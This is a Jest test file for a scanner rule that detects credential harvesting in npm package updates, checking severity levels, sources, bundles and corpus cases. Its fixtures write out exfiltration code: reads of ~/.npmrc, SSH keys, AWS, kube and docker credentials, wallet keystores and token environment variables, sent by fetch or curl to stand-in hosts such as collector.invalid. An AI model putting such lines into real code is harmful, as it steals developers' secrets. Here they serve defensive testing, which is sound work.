import { describe, expect, it } from '@jest/globals'
import { rule } from '../../../src/rules/content/credential-harvesting.js'
import type { Finding } from '../../../src/types.js'
import { join } from 'node:path'
import { contextFor, CORPUS } from '../../helpers/corpus.js'
import { makeChange, makeContext, makeFiles } from '../../helpers/factories.js'

const OLD_INDEX =
  "'use strict'\nmodule.exports = function greet(name) {\n  return 'hi ' + name\n}\n"

function changed(
  oldFiles: Record<string, string>,
  newFiles: Record<string, string>,
  name?: string
) {
  return makeContext({
    change: makeChange(name ? { name } : {}),
    files: makeFiles(newFiles),
    previousFiles: makeFiles(oldFiles)
  })
}

function added(newFiles: Record<string, string>, name?: string) {
  return makeContext({
    change: makeChange({ previousVersion: null, ...(name ? { name } : {}) }),
    files: makeFiles(newFiles)
  })
}

async function run(ctx: ReturnType<typeof makeContext>): Promise<Finding[]> {
  return rule.check(ctx)
}

const withLines = (...lines: string[]) => `${OLD_INDEX}${lines.join('\n')}\n`

describe('content/credential-harvesting: correlation levels', () => {
  it.each([
    [
      'a source alone in a changed package',
      {
        'index.js': withLines(
          "const npmrc = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8')"
        )
      },
      'low'
    ],
    [
      'a source and a sink in different files',
      {
        'index.js': withLines('const t = process.env.NPM_TOKEN'),
        'lib/send.js':
          "module.exports = (d) => fetch('https://collector.invalid/x', { method: 'POST', body: d })\n"
      },
      'high'
    ],
    [
      'a source and a sink in the same file',
      {
        'index.js': withLines(
          "const path = require('path'), os = require('os'), fs = require('fs')",
          "const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8')",
          "fetch('https://collector.invalid/k', { method: 'POST', body: key })"
        )
      },
      'critical'
    ]
  ])('%s', async (_name, newFiles, severity) => {
    const findings = await run(changed({ 'index.js': OLD_INDEX }, newFiles))
    expect(findings).toHaveLength(1)
    expect(findings[0]).toMatchObject({ ruleId: 'content/credential-harvesting', severity })
  })

  it.each([
    ['a source alone', { 'index.js': 'const t = process.env.GITHUB_TOKEN\n' }, 'info'],
    [
      'a source and a sink in different files',
      {
        'index.js': 'const t = process.env.GITHUB_TOKEN\n',
        'net.js': "require('https').get\nhttps.get('https://a.invalid')\n"
      },
      'low'
    ],
    [
      'a source and a sink in the same file',
      {
        'index.js': "const t = process.env.GITHUB_TOKEN\nfetch('https://a.invalid', { body: t })\n"
      },
      'medium'
    ],
    [
      'the credential files of three tools and a sink in the same file',
      {
        'index.js': [
          "const fs = require('fs')",
          "const a = fs.readFileSync('/root/.npmrc')",
          "const b = fs.readFileSync('/root/.ssh/id_rsa')",
          "const c = fs.readFileSync('/root/.aws/credentials')",
          "fetch('https://a.invalid', { method: 'POST', body: a + b + c })"
        ].join('\n')
      },
      'high'
    ],
    [
      'many token variables and a sink in the same file (a bundled CLI)',
      {
        'index.js': [
          'const a = [process.env.NPM_TOKEN, process.env.GITHUB_TOKEN, process.env.AWS_SECRET_ACCESS_KEY]',
          'const env = JSON.stringify(process.env)',
          "fetch('https://a.invalid', { method: 'POST', body: a + env })"
        ].join('\n')
      },
      'medium'
    ]
  ])('added package: %s', async (_name, newFiles, severity) => {
    const findings = await run(added(newFiles))
    expect(findings).toHaveLength(1)
    expect(findings[0]?.severity).toBe(severity)
  })
})

describe('content/credential-harvesting: sources', () => {
  const sink = "fetch('https://collector.invalid/', { method: 'POST', body: data })"
  it.each([
    ['.npmrc', "const data = fs.readFileSync(os.homedir() + '/.npmrc')"],
    [
      '.aws/credentials',
      "const data = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'))"
    ],
    ['.config/gcloud', "const data = fs.readdirSync(path.join(home, '.config', 'gcloud'))"],
    ['.kube/config', "const data = fs.readFileSync(home + '/.kube/config')"],
    ['.docker/config.json', 'const data = fs.readFileSync(`${home}/.docker/config.json`)'],
    ['.git-credentials', "const data = fs.readFileSync(join(home, '.git-credentials'))"],
    ['.env', "const data = fs.readFileSync('.env', 'utf8')"],
    ['a wallet keystore', "const data = fs.readdirSync(join(home, '.ethereum', 'keystore'))"],
    [
      'a browser store',
      "const data = join(appData, 'Google/Chrome/User Data/Default/Local Storage/leveldb')"
    ],
    ['NPM_TOKEN', 'const data = process.env.NPM_TOKEN'],
    ['a computed token variable', "const data = process.env['GH_' + 'TOKEN']"],
    ['a *_SECRET variable', 'const data = process.env.STRIPE_SECRET'],
    ['a password variable', 'const data = process.env.DB_PASSWORD'],
    ['the whole environment', 'const data = JSON.stringify(process.env)'],
    ['a metadata endpoint', "const data = 'http://169.254.169.254/latest/meta-data/iam/'"],
    ['a shell command', "const data = execSync('cat ~/.ssh/id_ed25519').toString()"]
  ])('%s is a source', async (_name, line) => {
    const findings = await run(
      changed({ 'index.js': OLD_INDEX }, { 'index.js': withLines(line, sink) })
    )
    expect(findings[0]?.severity).toBe('critical')
    expect(findings[0]?.evidence.length).toBeGreaterThan(0)
  })

  it.each([
    [
      'NODE_ENV, DEBUG and CI',
      'const data = [process.env.NODE_ENV, process.env.DEBUG, process.env.CI]'
    ],
    [
      'an error message naming .npmrc',
      "const data = 'Please add your token to ~/.npmrc and retry'"
    ],
    ['ssh known_hosts', "const data = join(home, '.ssh', 'known_hosts')"],
    ['a .env template', "const data = fs.readFileSync('.env.example')"],
    [
      'the environment passed to a child',
      "const data = spawn('git', ['status'], { env: { ...process.env, LANG: 'C' } })"
    ],
    ["the package's own token", 'const data = process.env.EXAMPLE_API_TOKEN'],
    ['a public key variable', 'const data = process.env.STRIPE_PUBLISHABLE_KEY']
  ])('%s is not a source', async (_name, line) => {
    const findings = await run(
      changed({ 'index.js': OLD_INDEX }, { 'index.js': withLines(line, sink) })
    )
    expect(findings).toEqual([])
  })

  it('has evidence with file, line and the line text', async () => {
    const findings = await run(
      changed(
        { 'index.js': OLD_INDEX },
        { 'index.js': withLines('const data = process.env.NPM_TOKEN', sink) }
      )
    )
    expect(findings[0]?.evidence[0]).toEqual({
      file: 'index.js',
      line: 5,
      snippet: 'const data = process.env.NPM_TOKEN'
    })
    expect(findings[0]?.evidence[1]).toMatchObject({ file: 'index.js', line: 6 })
    expect(findings[0]?.message).toContain('NPM_TOKEN')
    expect(findings[0]?.message).toContain('same file')
  })
})

describe('content/credential-harvesting: introduced only', () => {
  const cli = [
    'const token = process.env.NPM_TOKEN',
    "module.exports = () => fetch('https://registry.invalid/-/whoami', { headers: { authorization: 'Bearer ' + token } })"
  ].join('\n')

  it('is quiet when the previous version already read the same variable and sent it', async () => {
    const next = `${cli}\n// v2: retries\nmodule.exports.retry = () => fetch('https://registry.invalid/-/ping')\n`
    expect(await run(changed({ 'index.js': cli }, { 'index.js': next }))).toEqual([])
  })

  it('is quiet when the same code moved to a new file', async () => {
    expect(
      await run(
        changed(
          { 'index.js': cli },
          { 'lib/auth.js': cli, 'index.js': "module.exports = require('./lib/auth')\n" }
        )
      )
    ).toEqual([])
  })

  it('ignores tests and docs', async () => {
    const files = {
      'index.js': OLD_INDEX,
      'test/creds.test.js': cli,
      'README.md': 'cat ~/.npmrc | curl -d @- x'
    }
    expect(await run(changed({ 'index.js': OLD_INDEX }, files))).toEqual([])
  })

  it('reads shell scripts line by line', async () => {
    const files = {
      'index.js': OLD_INDEX,
      'setup.sh': '#!/bin/sh\ncurl -s -d "$(cat ~/.npmrc)" https://collector.invalid/\n'
    }
    const findings = await run(changed({ 'index.js': OLD_INDEX }, files))
    expect(findings[0]).toMatchObject({ severity: 'critical' })
    expect(findings[0]?.evidence[0]).toMatchObject({ file: 'setup.sh', line: 2 })
  })
})

describe('content/credential-harvesting: corpus severities', () => {
  it.each([
    ['malicious/added-package-harvester', 'high'],
    ['malicious/env-dump-to-webhook', 'critical'],
    ['malicious/telemetry-token-exfil', 'critical'],
    ['benign/aws-sdk-update', undefined],
    ['benign/cli-token-already-used', undefined],
    ['benign/dotenv-loader-added', 'low'],
    ['benign/node-env-debug-reads', undefined]
  ])('%s is %s', async (name, severity) => {
    const findings = await rule.check(
      await contextFor(join(CORPUS, 'content', 'credential-harvesting', name))
    )
    expect(findings[0]?.severity).toBe(severity)
  })
})

describe('content/credential-harvesting: bundles and test switches', () => {
  // yarn 2.4.3's bin/yarn.js: a 1.6 MiB bundle that logs in with its own test account
  const FILLER = Array.from({ length: 40 }, (_, i) => `function f${i}(a){return a+${i}}`).join(';')
  const DENSE_CHUNK = 'var x=[' + Array.from({ length: 120 }, (_, i) => `${i}`).join(',') + '];'

  it('ignores test-only variables next to a request', async () => {
    const ctx = changed(
      { 'index.js': OLD_INDEX },
      {
        'index.js': withLines(
          'if (process.env.TEST_ENV) login(process.env.TEST_NPM_USER, process.env.TEST_NPM_PASSWORD)',
          "fetch('https://registry.invalid/-/user', { body: process.env.TEST_NPM_2FA_TOKEN })"
        )
      }
    )
    expect(await run(ctx)).toEqual([])
  })

  it('grades a source and a sink on one long bundle line as the same package (high)', async () => {
    const line = `const t=process.env.NPM_TOKEN;${FILLER};fetch('https://collector.invalid/k',{body:t})`
    expect(line.length).toBeGreaterThan(1000)
    const findings = await run(changed({ 'index.js': OLD_INDEX }, { 'bin/cli.js': `${line}\n` }))
    expect(findings).toHaveLength(1)
    expect(findings[0]?.severity).toBe('high')
    expect(findings[0]?.message).toContain('minified bundle')
  })

  it('grades a minified-shaped file as the same package even with short lines', async () => {
    const text = [
      'const t=process.env.NPM_TOKEN;',
      ...Array.from({ length: 8 }, () => DENSE_CHUNK),
      "fetch('https://collector.invalid/k',{body:t})"
    ].join('\n')
    const findings = await run(changed({ 'index.js': OLD_INDEX }, { 'bin/cli.js': `${text}\n` }))
    expect(findings[0]?.severity).toBe('high')
  })

  it('keeps critical when a readable file has a short source line and a short sink line', async () => {
    const text = [
      'const t = process.env.NPM_TOKEN',
      `const table = '${'x'.repeat(1200)}'`,
      "fetch('https://collector.invalid/k', { body: t })"
    ].join('\n')
    const findings = await run(changed({ 'index.js': OLD_INDEX }, { 'lib/t.js': `${text}\n` }))
    expect(findings[0]?.severity).toBe('critical')
  })
})
